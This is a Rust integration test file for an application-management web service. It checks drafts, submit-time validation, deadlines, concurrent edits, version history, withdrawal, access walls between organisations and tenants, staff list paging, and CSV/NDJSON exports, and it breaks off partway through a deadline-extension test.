//! Applying to a call: drafts across sessions, checks at submit, the deadline, concurrent
//! editing, history, withdrawal, walls between organisations, and the staff list.

use reqwest::StatusCode;
use sweetspot::ids::{OrganisationId, TenantId};
use sweetspot::tenancy::domain::TenantRole;

use crate::actors::{CallRef, Draft, NewQuestion, Staff, Team};
use crate::helpers::{TestApp, error_summary, heading, input_value, spawn_app};

pub(crate) struct Setup {
    pub app: TestApp,
    pub tenant: TenantId,
    pub staff: Staff,
    pub team: Team,
    pub organisation: OrganisationId,
    pub call: CallRef,
}

/// A tenant with an open call for challenges asking "Who is affected?" (long text, at most ten
/// words) in the section "The problem" and "Team size" (1-5 or 6-20) in "Your team"; a staff
/// member; and Ana of "Digital Lab" (Brazil). Each person in their own browser.
pub(crate) async fn setup() -> Setup {
    let app = spawn_app().await;
    let tenant = app.create_tenant("opsi").await;
    let staff_id = app.create_user("staff@opsi.example", "Staff").await;
    app.grant(tenant, staff_id, TenantRole::Staff).await;
    let member = app.create_user("ana@gov.example", "Ana").await;
    let organisation = app.create_organisation(tenant, "Digital Lab", "BR", member).await;
    let staff = Staff(app.new_browser());
    staff.log_in_ok("staff@opsi.example").await;
    staff.create_programme("opsi", "incubator", "Incubator 2024").await;
    let call = staff.open_call("opsi", "incubator", "challenge", "challenges", "Call for challenges").await;
    let who = NewQuestion { word_limit: Some(10), ..NewQuestion::new("The problem", "Who is affected?", "long_text") };
    staff.add_question(&call, who).await;
    let size = NewQuestion { options: &["1-5", "6-20"], ..NewQuestion::new("Your team", "Team size", "single_choice") };
    staff.add_question(&call, size).await;
    let team = Team(app.new_browser());
    team.log_in_ok("ana@gov.example").await;
    Setup { app, tenant, staff, team, organisation, call }
}

/// Ana starts an application for Digital Lab.
pub(crate) async fn start(setup: &Setup) -> Draft {
    setup.team.start_application(&setup.call, setup.organisation).await
}

/// Ana fills every part with valid answers.
pub(crate) async fn fill(setup: &Setup, draft: &Draft) {
    let team = &setup.team;
    team.write_about(
        draft,
        "Equitable digital participation",
        "Low-income people in urban peripheries take part less.",
    )
    .await;
    team.answer(draft, "Who is affected?", "Black people in urban peripheries").await;
    team.answer(draft, "Team size", "6-20").await;
}

/// A member of another organisation of the tenant, signed in: (browser, organisation).
async fn another_team(
    setup: &Setup,
    email: &str,
    name: &str,
    organisation: &str,
    country: &str,
) -> (Team, OrganisationId) {
    let user = setup.app.create_user(email, name).await;
    let organisation = setup.app.create_organisation(setup.tenant, organisation, country, user).await;
    let team = Team(setup.app.new_browser());
    team.log_in_ok(email).await;
    (team, organisation)
}

#[tokio::test]
async fn a_team_fills_a_challenge_across_sessions_submits_it_and_gets_a_receipt() {
    let setup = setup().await;
    let draft = start(&setup).await;
    assert!(draft.path.starts_with("/t/opsi/submissions/"));
    let (_, tasks) = setup.team.get_html(&draft.path).await;
    assert!(tasks.contains("You have completed 0 of 3 parts."));

    // First session: the about part only.
    setup.team.write_about(&draft, "Equitable digital participation", "Low-income people take part less.").await;

    // Second session, another browser: the draft is there.
    let later = Team(setup.app.new_browser());
    later.log_in_ok("ana@gov.example").await;
    let (_, tasks) = later.get_html(&draft.path).await;
    assert!(tasks.contains("Equitable digital participation"));
    assert!(tasks.contains("You have completed 1 of 3 parts."));
    later.answer(&draft, "Who is affected?", "Black people in urban peripheries").await;
    later.answer(&draft, "Team size", "6-20").await;

    let (status, review) = later.get_html(&draft.review()).await;
    assert_eq!(status, StatusCode::OK);
    assert!(review.contains("Black people in urban peripheries"));
    later.submit(&draft).await;
    let (_, page) = later.get_html(&draft.path).await;
    assert!(page.contains("Your submission has been received."));
    assert_eq!(
        setup
            .app
            .count("select count(*) from submissions where status = 'submitted' and submitted_at is not null")
            .await,
        1
    );

    let (subject, body) = setup.app.last_email_to("ana@gov.example").await.expect("a receipt");
    assert_eq!(subject, "We received your submission: Equitable digital participation");
    assert!(body.contains("Who is affected?\nBlack people in urban peripheries"));
    assert!(body.contains("Team size\n6-20"));
    let versions: Vec<i32> = sqlx::query_scalar("select version from submission_versions order by version")
        .fetch_all(&setup.app.pool)
        .await
        .unwrap();
    assert_eq!(versions, [1, 2, 3, 4, 5], "the empty draft, three saves and the submission are each a version");
}

#[tokio::test]
async fn submitting_checks_required_answers_and_word_limits_and_saves_nothing_on_failure() {
    let setup = setup().await;
    let draft = start(&setup).await;
    // Eleven words where ten are allowed: saved as a draft, refused at submit.
    let eleven = "one two three four five six seven eight nine ten eleven";
    setup.team.answer(&draft, "Who is affected?", eleven).await;
    let response = setup.team.try_submit(&draft).await;
    assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body = response.text().await.unwrap();
    assert_eq!(
        error_summary(&body),
        vec![
            "Enter a title",
            "Enter a summary",
            "“Who is affected?” must be 10 words or fewer (it has 11)",
            "Answer the question “Team size”",
        ]
    );
    let (_, who) = setup.team.find_question(&setup.call, "Who is affected?").await;
    assert!(
        body.contains(&format!("{}?check&amp;return=review#{who}", draft.part(1))),
        "errors link to the field's part"
    );
    assert_eq!(setup.app.count("select count(*) from submissions where status = 'draft'").await, 1);
    assert_eq!(setup.app.count("select count(*) from outbox").await, 0);
    // An impossible choice is refused even in a draft.
    let bad = setup.team.try_answer(&draft, "Team size", "a thousand").await;
    assert_eq!(bad.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(error_summary(&bad.text().await.unwrap()), vec!["For “Team size”, choose from the list"]);
    // So is a yes/no answer that is neither (the form offers only those two), and nothing is saved.
    let pilot = NewQuestion { required: false, ..NewQuestion::new("Your team", "Have you run a pilot?", "yes_no") };
    setup.staff.add_question(&setup.call, pilot).await;
    let saved = setup.app.count("select count(*) from submission_versions").await;
    let maybe = setup.team.try_answer(&draft, "Have you run a pilot?", "maybe").await;
    assert_eq!(maybe.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(error_summary(&maybe.text().await.unwrap()), vec!["For “Have you run a pilot?”, choose yes or no"]);
    assert_eq!(setup.app.count("select count(*) from submission_versions").await, saved);
    setup.team.answer(&draft, "Have you run a pilot?", "no").await;
    assert_eq!(setup.app.count("select count(*) from submission_versions").await, saved + 1);
}

#[tokio::test]
async fn the_server_clock_closes_the_call_to_the_second() {
    let setup = setup().await;
    let draft = start(&setup).await;
    fill(&setup, &draft).await;
    let review = setup.team.open(&draft.review()).await;
    sqlx::query("update calls set closes_at = now() - interval '1 second'").execute(&setup.app.pool).await.unwrap();
    let late = review.send(&setup.team, &[]).await;
    assert_eq!(late.status(), StatusCode::CONFLICT);
    let late = late.text().await.unwrap();
    assert!(late.contains("The call has closed"));
    // Its own heading: nobody else changed anything.
    assert_eq!(heading(&late), "This submission can no longer be changed");
    // The part's form no longer opens; a save sent anyway is refused.
    let version = review.value("version").unwrap();
    let edit = setup.team.post_form(&draft.part(0), &[("title", "Too late"), ("version", version)]).await;
    assert_eq!(edit.status(), StatusCode::CONFLICT);
    assert_eq!(
        setup
            .app
            .count(
                "select count(*) from submissions where status = 'draft' and title = 'Equitable digital participation'"
            )
            .await,
        1
    );
    let (_, page) = setup.team.get_html(&draft.path).await;
    assert!(page.contains("This call has closed"));
    let again = setup.team.try_start(&setup.call, setup.organisation).await;
    assert_eq!(again.status(), StatusCode::CONFLICT);
    assert_eq!(heading(&again.text().await.unwrap()), "The call is not open");
    // A program tells this refusal from a stale edit by its type, in any language.
    let body = serde_json::json!({ "organisation": setup.organisation.to_string() });
    let refused = setup.team.send_json(reqwest::Method::POST, &setup.call.api_list_path(), &body).await;
    assert_eq!(refused.status(), StatusCode::CONFLICT);
    let problem: serde_json::Value = refused.json().await.unwrap();
    assert_eq!(problem["type"], "tag:sweetspot.invalid,2026:problem:call-not-open");
    assert_eq!(problem["title"], "The call is not open");
}

#[tokio::test]
async fn a_stale_save_is_refused_with_what_changed_and_nothing_is_overwritten() {
    let setup = setup().await;
    let draft = start(&setup).await;
    let colleague = setup.app.create_user("bruno@gov.example", "Bruno").await;
    setup.app.add_member(setup.tenant, setup.organisation, colleague).await;
    let bruno = Team(setup.app.new_browser());
    bruno.log_in_ok("bruno@gov.example").await;

    // Both open the "about" part; Ana saves first.
    let ana_form = setup.team.open(&draft.part(0)).await;
    let bruno_form = bruno.open(&draft.part(0)).await;
    let base = ana_form.value("version").unwrap().to_string();
    assert_eq!(bruno_form.value("version"), Some(base.as_str()));
    let first = ana_form.send(&setup.team, &[("title", "Digital by default"), ("summary", "Ana's summary")]).await;
    assert_eq!(first.status(), StatusCode::SEE_OTHER);
    let second = bruno_form.send(&bruno, &[("title", "Bruno's title"), ("summary", "Bruno's summary")]).await;
    assert_eq!(second.status(), StatusCode::CONFLICT);
    let body = second.text().await.unwrap();
    assert!(body.contains("Someone in your organisation saved this application after you opened the page"));
    assert!(body.contains("added: </span>Digital by default</ins>"), "the page shows what the other person changed");
    assert_eq!(input_value(&body, "title").as_deref(), Some("Bruno's title"), "what Bruno typed is kept");
    let newer = input_value(&body, "version").unwrap();
    assert_ne!(newer, base);
    assert_eq!(setup.app.count("select count(*) from submissions where title = 'Digital by default'").await, 1);
    // Having seen the change, Bruno saves on top of it from the page he was shown.
    let shown = crate::helpers::FormPage::of(&body, &draft.part(0)).expect("the form again");
    let again = shown.send(&bruno, &[("title", "Digital by default, for all"), ("summary", "Both")]).await;
    assert_eq!(again.status(), StatusCode::SEE_OTHER);
}

#[tokio::test]
async fn every_version_is_kept_and_readers_see_what_changed() {
    let setup = setup().await;
    let draft = start(&setup).await;
    setup.team.write_about(&draft, "Accessible services", "Digital by default").await;
    setup.team.write_about(&draft, "Accessible services", "Digital by default but without leaving anyone behind").await;
    let (status, history) = setup.team.get_html(&draft.history()).await;
    assert_eq!(status, StatusCode::OK);
    assert!(history.contains("Version 3"));
    let (_, diff) = setup.staff.get_html(&format!("{}/3", draft.history())).await;
    assert_eq!(heading(&diff), "Version 3");
    assert!(
        diff.contains("Digital by default<ins><span class=\"govuk-visually-hidden\">added: </span> but without leaving anyone behind</ins>"),
        "added words are marked: {diff}"
    );
    assert!(!diff.contains(">Title<"), "unchanged fields are not listed");
}

#[tokio::test]
async fn a_submission_can_be_withdrawn_and_the_counts_follow() {
    let setup = setup().await;
    let draft = start(&setup).await;
    fill(&setup, &draft).await;
    // A draft offers no withdrawal; one sent anyway does nothing and leads to the draft's page.
    let version = setup.team.open(&draft.review()).await.value("version").unwrap().to_string();
    let draft_withdraw = setup.team.post_form(&format!("{}/withdraw", draft.path), &[("version", &version)]).await;
    assert_eq!(draft_withdraw.status(), StatusCode::SEE_OTHER, "a draft is not withdrawn");
    assert_eq!(setup.app.count("select count(*) from submissions where status = 'withdrawn'").await, 0);
    setup.team.submit(&draft).await;
    assert_eq!(setup.team.try_withdraw(&draft).await.status(), StatusCode::SEE_OTHER);
    assert_eq!(
        setup
            .app
            .count("select count(*) from submissions where status = 'withdrawn' and withdrawn_at is not null")
            .await,
        1
    );
    assert_eq!(setup.team.get(&draft.part(0)).await.status(), StatusCode::CONFLICT);
    let (_, list) = setup.staff.get_html(&setup.call.list_path()).await;
    assert!(list.contains("1 in total · Withdrawn: 1"), "the counts follow the withdrawal");
}

/// The staff list reads its counts from counters kept by triggers; they must always equal a real
/// count, through the service's changes, bulk inserts (the benchmark's generator) and deletes.
#[tokio::test]
async fn the_status_counters_always_equal_a_real_count() {
    let setup = setup().await;
    let drafts = [start(&setup).await, start(&setup).await];
    fill(&setup, &drafts[0]).await;
    setup.team.submit(&drafts[0]).await;
    let pool = &setup.app.pool;
    sqlx::query(
        "insert into submissions (tenant_id, id, call_id, organisation_id, status, created_at)
         select tenant_id, gen_random_uuid(), call_id, organisation_id, s, now() - make_interval(secs => n)
         from submissions, generate_series(1, 3) n, unnest(array['draft', 'submitted', 'withdrawn']) s
         where id = (select id from submissions order by created_at limit 1)",
    )
    .execute(pool)
    .await
    .unwrap();
    sqlx::query("delete from submissions where status = 'withdrawn' and ctid in (select ctid from submissions where status = 'withdrawn' limit 2)")
        .execute(pool)
        .await
        .unwrap();
    let counted: Vec<(String, i64)> =
        sqlx::query_as("select status, count(*) from submissions group by status order by status")
            .fetch_all(pool)
            .await
            .unwrap();
    let kept: Vec<(String, i64)> =
        sqlx::query_as("select status, count from call_submission_counts where count > 0 order by status")
            .fetch_all(pool)
            .await
            .unwrap();
    assert_eq!(kept, counted);
    assert_eq!(counted, [("draft".to_string(), 4), ("submitted".to_string(), 4), ("withdrawn".to_string(), 1)]);
}

#[tokio::test]
async fn other_organisations_and_tenants_cannot_read_or_change_a_submission() {
    let setup = setup().await;
    let draft = start(&setup).await;
    let (carla, other_org) = another_team(&setup, "carla@gov.example", "Carla", "Other Lab", "FR").await;
    for page in [draft.path.clone(), draft.part(0), draft.review(), draft.history()] {
        assert_eq!(carla.get(&page).await.status(), StatusCode::FORBIDDEN, "{page}");
    }
    let write = carla.post_form(&draft.part(0), &[("title", "Hijacked"), ("version", "1")]).await;
    assert_eq!(write.status(), StatusCode::FORBIDDEN);
    // Starting an application for an organisation one does not belong to (a forged id).
    let forged = carla.try_start(&setup.call, setup.organisation).await;
    assert_eq!(forged.status(), StatusCode::FORBIDDEN);
    let garbage = carla.post_form(&setup.call.apply_path(), &[("organisation", "not-an-id")]).await;
    assert_eq!(garbage.status(), StatusCode::UNPROCESSABLE_ENTITY);
    carla.start_application(&setup.call, other_org).await;
    // Staff read but do not write.
    assert_eq!(setup.staff.get(&draft.path).await.status(), StatusCode::OK);
    let staff_edit = setup.staff.post_form(&draft.part(0), &[("title", "Staff edit"), ("version", "1")]).await;
    assert_eq!(staff_edit.status(), StatusCode::FORBIDDEN);
    // Another tenant's admin: the submission does not exist there.
    let elsewhere = setup.app.create_tenant("agency").await;
    let outsider = setup.app.create_user("admin@agency.example", "Outsider").await;
    setup.app.grant(elsewhere, outsider, TenantRole::Admin).await;
    let outsider = setup.app.new_browser();
    outsider.log_in_ok("admin@agency.example").await;
    assert_eq!(outsider.get(&format!("/t/agency/submissions/{}", draft.id())).await.status(), StatusCode::NOT_FOUND);
    assert_eq!(outsider.get(&draft.path).await.status(), StatusCode::FORBIDDEN);
    assert_eq!(setup.app.count("select count(*) from submissions where title = ''").await, 2);
}

#[tokio::test]
async fn staff_filter_and_page_through_a_calls_submissions_and_select_challenges() {
    let setup = setup().await;
    let draft = start(&setup).await;
    fill(&setup, &draft).await;
    setup.team.submit(&draft).await;
    // A second organisation's draft, from Finland.
    let (finn, data_room) = another_team(&setup, "finn@gov.example", "Finn", "Data Room", "FI").await;
    let finn_draft = finn.start_application(&setup.call, data_room).await;
    finn.write_about(&finn_draft, "Register data for research", "Novel datasets").await;

    for theme in ["Open data", "Digital inclusion"] {
        setup.staff.add_theme("opsi", theme).await;
    }
    let list = setup.call.list_path();
    assert_eq!(setup.team.get(&list).await.status(), StatusCode::FORBIDDEN);
    let (status, page) = setup.staff.get_html(&list).await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains("2 in total · Draft: 1 · Submitted: 1"));
    let theme_options: Vec<String> = scraper::Html::parse_document(&page)
        .select(&scraper::Selector::parse("#theme option").unwrap())
        .map(|o| o.text().collect())
        .collect();
    assert_eq!(theme_options[1..], ["Digital inclusion", "Open data"], "the theme filter lists the tenant's themes");
    let titles = |query: &'static str| setup.staff.list_titles(&setup.call, query);
    assert_eq!(titles("").await, ["Register data for research", "Equitable digital participation"]);
    assert_eq!(titles("status=submitted").await, ["Equitable digital participation"]);
    assert_eq!(titles("continent=europe").await, ["Register data for research"]);
    assert_eq!(titles("country=br").await, ["Equitable digital participation"]);
    assert_eq!(titles("q=datasets").await, ["Register data for research"]);
    assert!(titles("q=nothing+like+this").await.is_empty());

    // Selecting is a decision: only on submitted entries, only by staff, and selected once
    // released.
    assert_eq!(setup.staff.try_decide(&finn_draft, "selected").await.status(), StatusCode::CONFLICT);
    let by_team =
        setup.team.post_form(&format!("/t/opsi/submissions/{}/decision", draft.id()), &[("version", "0")]).await;
    assert_eq!(by_team.status(), StatusCode::FORBIDDEN);
    assert_eq!(setup.staff.try_decide(&draft, "selected").await.status(), StatusCode::SEE_OTHER);
    assert_eq!(
        setup.app.count("select count(*) from submissions where selected_at is not null").await,
        0,
        "not yet released"
    );
    setup.staff.select_and_release_only(&setup.call).await;
    assert_eq!(setup.app.count("select count(*) from submissions where selected_at is not null").await, 1);
}

/// Staff open the programme's call for solutions (`solutions`), open until 2099.
async fn open_solution_call(setup: &Setup) -> CallRef {
    setup.staff.open_call("opsi", "incubator", "solution", "solutions", "Call for solutions").await
}

/// Every item of a JSON list, following its `next` cursors from `url` (which has a query
/// string), and how many pages that took.
async fn every_page(browser: &TestApp, url: &str) -> (Vec<serde_json::Value>, usize) {
    let mut items = Vec::new();
    let mut pages = 0;
    let mut next_url = url.to_string();
    loop {
        let response = browser.get(&next_url).await;
        assert_eq!(response.status(), StatusCode::OK, "{next_url}");
        let page: serde_json::Value = response.json().await.unwrap();
        let page_items = page["items"].as_array().unwrap();
        assert!(page_items.len() <= 50, "{next_url}");
        items.extend(page_items.iter().cloned());
        pages += 1;
        match page["next"].as_str() {
            Some(next) => next_url = format!("{url}&after={next}"),
            None => return (items, pages),
        }
    }
}

#[tokio::test]
async fn every_order_of_the_staff_list_pages_through_each_submission_once() {
    let setup = setup().await;
    // 120 submissions in bulk, whose titles differ only in case, hold the cursor's separator or
    // start with an accent, and whose times tie, so that the id has to break ties across pages.
    sqlx::query(
        "insert into submissions (tenant_id, id, call_id, organisation_id, status, title, created_at, updated_at)
         select $1, gen_random_uuid(), c.id, $2, 'submitted',
                (array['alpha', 'Beta', 'beta', 'Gamma | delta', 'École'])[1 + g % 5] || ' ' || (g % 7),
                timestamptz '2024-03-01' + (g % 30) * interval '1 minute',
                timestamptz '2024-04-01' - (g % 11) * interval '1 minute'
         from calls c, generate_series(1, 120) g where c.tenant_id = $1 and c.slug = 'challenges'",
    )
    .bind(setup.tenant)
    .bind(setup.organisation)
    .execute(&setup.app.pool)
    .await
    .unwrap();
    let list = setup.call.api_list_path();
    for sort in ["newest", "oldest", "updated", "title"] {
        let (items, pages) = every_page(&setup.staff, &format!("{list}?sort={sort}")).await;
        assert_eq!(pages, 3, "{sort}: 120 submissions make pages of 50, 50 and 20");
        let ids: Vec<uuid::Uuid> = items.iter().map(|i| i["id"].as_str().unwrap().parse().unwrap()).collect();
        assert_eq!(ids.iter().collect::<std::collections::HashSet<_>>().len(), 120, "{sort}: each exactly once");
        let key = |i: &serde_json::Value, field: &str| i[field].as_str().unwrap().to_string();
        let mut expected = items.clone();
        match sort {
            "newest" => expected.sort_by_key(|i| std::cmp::Reverse((key(i, "created_at"), key(i, "id")))),
            "oldest" => expected.sort_by_key(|i| (key(i, "created_at"), key(i, "id"))),
            "updated" => expected.sort_by_key(|i| std::cmp::Reverse((key(i, "updated_at"), key(i, "id")))),
            // Unicode order: "École" between "beta" and "Gamma", not after "z" as bytes would have it.
            _ => expected.sort_by_key(|i| (key(i, "title").to_lowercase().replace('é', "e"), key(i, "id"))),
        }
        assert_eq!(items, expected, "{sort}: in order across pages");
    }

    // The page keeps the order in its form and in its next link.
    let page_url = format!("{}?sort=title", setup.call.list_path());
    let (status, page) = setup.staff.get_html(&page_url).await;
    assert_eq!(status, StatusCode::OK);
    let document = scraper::Html::parse_document(&page);
    let selected: Vec<String> = document
        .select(&scraper::Selector::parse("#sort option[selected]").unwrap())
        .map(|o| o.text().collect())
        .collect();
    assert_eq!(selected, ["Title (A to Z)"]);
    let next = document
        .select(&scraper::Selector::parse("a[rel=next]").unwrap())
        .next()
        .and_then(|a| a.value().attr("href"))
        .expect("a next link")
        .to_string();
    assert!(next.contains("sort=title"), "{next}");
    let (status, second) = setup.staff.get_html(&format!("{}{next}", setup.call.list_path())).await;
    assert_eq!(status, StatusCode::OK);
    assert!(second.contains("École 3"), "the second page goes on in title order");

    // An order or a filter value the list does not know is refused, on the page and in the API,
    // with the parameter named (an unknown filter used to list nothing, as if none matched, and an
    // unknown order was a 400 from the parser); known ones, in any case the store accepts, work.
    for (parameter, value) in [
        ("sort", "sideways"),
        ("status", "bogus"),
        ("level", "martian"),
        ("continent", "atlantis"),
        ("country", "BRA"),
        ("theme", "data"),
    ] {
        let url = format!("{list}?{parameter}={value}");
        let refused = setup.staff.get(&url).await;
        assert_eq!(refused.status(), StatusCode::UNPROCESSABLE_ENTITY, "{url}");
        let problem: serde_json::Value = refused.json().await.unwrap();
        assert_eq!(problem["errors"][0]["field"], parameter, "{url}");
        assert_eq!(problem["errors"][0]["message"], format!("“{value}” is not a value this filter knows"));
        let page = format!("{}?{parameter}={value}", setup.call.list_path());
        let (status, html) = setup.staff.get_html(&page).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{page}");
        // The list's own page, its error summary linking to the filter that holds the value.
        assert!(
            html.contains(&format!("<a href=\"#{parameter}\">“{value}” is not a value this filter knows</a>")),
            "{html}"
        );
    }
    for known in ["status=draft", "level=national", "continent=europe", "country=br"] {
        assert_eq!(setup.staff.get(&format!("{list}?{known}")).await.status(), StatusCode::OK, "{known}");
    }
    // A call with nothing in it lists nothing; a call that does not exist is 404.
    let solutions = open_solution_call(&setup).await;
    let empty = setup.staff.get(&solutions.api_list_path()).await;
    assert_eq!(empty.status(), StatusCode::OK);
    let empty: serde_json::Value = empty.json().await.unwrap();
    assert_eq!(empty["items"], serde_json::json!([]));
    assert!(empty["next"].is_null());
    for url in [
        "/api/v1/t/opsi/programmes/incubator/calls/nothing/submissions",
        "/api/v1/t/opsi/programmes/none/calls/challenges/submissions",
    ] {
        assert_eq!(setup.staff.get(url).await.status(), StatusCode::NOT_FOUND, "{url}");
    }
    assert_eq!(setup.app.count("select count(*) from submissions").await, 120, "reading changed nothing");
}

#[tokio::test]
async fn a_solution_offers_help_to_selected_challenges_only() {
    let setup = setup().await;
    let challenge = start(&setup).await;
    fill(&setup, &challenge).await;
    setup.team.submit(&challenge).await;
    setup.staff.select_and_release(&challenge).await;
    let solutions = open_solution_call(&setup).await;
    let (nyc, commission) = another_team(&setup, "nyc@gov.example", "NYC", "Civic Engagement Commission", "US").await;
    let solution = nyc.start_application(&solutions, commission).await;
    let (_, page) = nyc.get_html(&solution.part(0)).await;
    assert!(page.contains("Equitable digital participation"), "selected challenges are offered");
    let form = nyc.open(&solution.part(0)).await;
    let about = [("title", "People's Money"), ("summary", "Participatory budgeting")];
    let unknown = uuid::Uuid::now_v7().to_string();
    let forged = form.send(&nyc, &[about[0], about[1], ("offers", unknown.as_str())]).await;
    assert_eq!(forged.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(error_summary(&forged.text().await.unwrap()), vec!["Choose challenges from the list"]);
    let saved = form.send(&nyc, &[about[0], about[1], ("offers", challenge.id())]).await;
    assert_eq!(saved.status(), StatusCode::SEE_OTHER);
    assert_eq!(setup.app.count("select count(*) from solution_offers").await, 1);

    // A program finds the ids to offer as the form lists them; signed out, it is 401.
    let selected = nyc.get("/api/v1/t/opsi/programmes/incubator/selected-challenges").await;
    assert_eq!(selected.status(), StatusCode::OK);
    let selected: serde_json::Value = selected.json().await.unwrap();
    assert_eq!(
        (&selected[0]["id"], &selected[0]["country_name"]),
        (&serde_json::json!(challenge.id()), &serde_json::json!("Brazil"))
    );
    assert_eq!(selected.as_array().unwrap().len(), 1);
    let signed_out =
        reqwest::get(setup.app.url("/api/v1/t/opsi/programmes/incubator/selected-challenges")).await.unwrap();
    assert_eq!(signed_out.status(), StatusCode::UNAUTHORIZED);
    // Each team lists its own organisations' submissions, as its tenant home does.
    let mine: serde_json::Value = nyc.get("/api/v1/t/opsi/me/submissions").await.json().await.unwrap();
    assert_eq!(mine.as_array().unwrap().len(), 1);
    assert_eq!(
        (&mine[0]["title"], &mine[0]["organisation_id"]),
        (&serde_json::json!("People's Money"), &serde_json::json!(commission.to_string()))
    );
    let anas: serde_json::Value = setup.team.get("/api/v1/t/opsi/me/submissions").await.json().await.unwrap();
    assert_eq!(anas[0]["title"], "Equitable digital participation");
    assert_eq!(
        reqwest::get(setup.app.url("/api/v1/t/opsi/me/submissions")).await.unwrap().status(),
        StatusCode::UNAUTHORIZED
    );

    // Staff see which challenges each solution offers: in the JSON list, the CSV and the NDJSON.
    let offered = serde_json::json!([{ "id": challenge.id(), "title": "Equitable digital participation" }]);
    let listed: serde_json::Value = setup.staff.get(&solutions.api_list_path()).await.json().await.unwrap();
    assert_eq!(listed["items"][0]["offers"], offered);
    let line: serde_json::Value = serde_json::from_str(
        &setup.staff.get(&format!("{}/export", solutions.api_list_path())).await.text().await.unwrap(),
    )
    .unwrap();
    assert_eq!(line["offers"], offered);
    let csv = setup.staff.get(&format!("{}.csv", solutions.list_path())).await.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    let offers_column = reader.headers().unwrap().iter().position(|h| h == "offers").expect("an offers column");
    assert_eq!(&reader.records().next().unwrap().unwrap()[offers_column], "Equitable digital participation");
}

#[tokio::test]
async fn staff_download_what_the_list_shows_or_everything_for_spreadsheets_and_programs() {
    let setup = setup().await;
    let draft = start(&setup).await;
    fill(&setup, &draft).await;
    setup.team.submit(&draft).await;
    let (finn, data_room) = another_team(&setup, "finn@gov.example", "Finn", "Data Room", "FI").await;
    let finn_draft = finn.start_application(&setup.call, data_room).await;
    finn.write_about(&finn_draft, "Register data for research", "Novel datasets").await;
    let csv_path = format!("{}.csv", setup.call.list_path());
    let read_csv = async |query: &str, separator: u8| {
        let response = setup.staff.get(&format!("{csv_path}{query}")).await;
        assert_eq!(response.status(), StatusCode::OK, "{query}");
        let body = response.text().await.unwrap();
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(separator)
            .from_reader(std::io::Cursor::new(body.trim_start_matches('\u{feff}').to_string()));
        let headers: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
        let rows: Vec<Vec<String>> =
            reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect();
        (headers, rows)
    };

    // The filtered list offers its own download beside everything; the links carry the filters.
    let (_, page) = setup.staff.get_html(&format!("{}?status=submitted&q=equitable", setup.call.list_path())).await;
    assert!(page.contains("Download the submissions this list shows"), "{page}");
    let downloads: Vec<String> = scraper::Html::parse_document(&page)
        .select(&scraper::Selector::parse("a[download]").unwrap())
        .map(|a| a.value().attr("href").unwrap().to_string())
        .collect();
    let csv = "/t/opsi/p/incubator/c/challenges/submissions.csv";
    assert_eq!(
        downloads,
        [
            format!("{csv}?status=submitted&q=equitable"),
            format!("{csv}?status=submitted&q=equitable&separator=semicolon"),
            csv.to_string(),
            format!("{csv}?separator=semicolon"),
        ]
    );
    let (_, unfiltered) = setup.staff.get_html(&setup.call.list_path()).await;
    assert!(!unfiltered.contains("Download the submissions this list shows"));

    let (headers, everything) = read_csv("", b',').await;
    assert_eq!(everything.len(), 2);
    let (_, shown) = read_csv("?status=submitted", b',').await;
    assert_eq!(shown.len(), 1);
    assert_eq!(shown[0][2], "Equitable digital participation");
    // Semicolons for spreadsheets in locales whose decimal mark is a comma: the same cells.
    let (semicolon_headers, semicolon_rows) = read_csv("?separator=semicolon", b';').await;
    assert_eq!((semicolon_headers, semicolon_rows), (headers.clone(), everything.clone()));
    // Times as spreadsheets read dates, in the programme's zone, named in the heading.
    let submitted = headers.iter().position(|h| h.starts_with("submitted_at (")).expect("submitted_at");
    let stamp = &shown[0][submitted];
    assert!(chrono::NaiveDateTime::parse_from_str(stamp, "%Y-%m-%d %H:%M:%S").is_ok(), "{stamp}");
    assert_eq!(stamp.len(), 19, "no fractions of a second, no offset: {stamp}");
    for bad in ["?separator=tab", "?status=archived"] {
        let refused = setup.staff.get(&format!("{csv_path}{bad}")).await;
        assert_eq!(refused.status(), StatusCode::UNPROCESSABLE_ENTITY, "{bad}");
    }

    // For programs: NDJSON with the same rows and filters, values exact.
    let export = format!("{}/export", setup.call.api_list_path());
    assert_eq!(setup.team.get(&export).await.status(), StatusCode::FORBIDDEN);
    let response = setup.staff.get(&format!("{export}?status=submitted")).await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(response.headers()["content-type"], "application/x-ndjson");
    let body = response.text().await.unwrap();
    let lines: Vec<serde_json::Value> = body.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 1);
    assert_eq!(lines[0]["title"], "Equitable digital participation");
    assert_eq!(lines[0]["organisation"]["country"], "BR");
    let (_, field) = setup.team.find_question(&setup.call, "Team size").await;
    assert_eq!(lines[0]["answers"][field.trim_start_matches("q_")], "6-20");
    let at = lines[0]["submitted_at"].as_str().unwrap();
    assert!(chrono::DateTime::parse_from_rfc3339(at).is_ok(), "{at}");
    let all = setup.staff.get(&export).await.text().await.unwrap();
    assert_eq!(all.lines().count(), 2);
}

#[tokio::test]
async fn team_members_see_their_submissions_on_the_tenant_home() {
    let setup = setup().await;
    let draft = start(&setup).await;
    fill(&setup, &draft).await;
    let (_, home) = setup.team.get_html("/t/opsi").await;
    assert!(home.contains("Your submissions"));
    assert!(home.contains("Equitable digital participation"));
    assert!(home.contains(&draft.path));
    let (_, staff_home) = setup.staff.get_html("/t/opsi").await;
    assert!(!staff_home.contains("Your submissions"), "staff have no team submissions");
}

#[tokio::test]
async fn extending_a_deadline_is_audited_and_tells_the_applicants() {
    let setup = setup().await;
    start(&setup).await;
    let extend = format!("{}/extend", setup.call.path());
    let extend = extend.as_str();
    let earlier = setup.staff.post_form(extend, &[("closes_at", "2098-12-31T00:00")]).await;
    assert_eq!(earlier.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        error_summary(&earlier.text().await.unwrap()),
        vec!["The new closing time must be later than the current one"]
    );
    assert_eq!(
        setup.team.post_form(extend, &[("closes_at", "2099-06-30T18:00")]).await.status(),
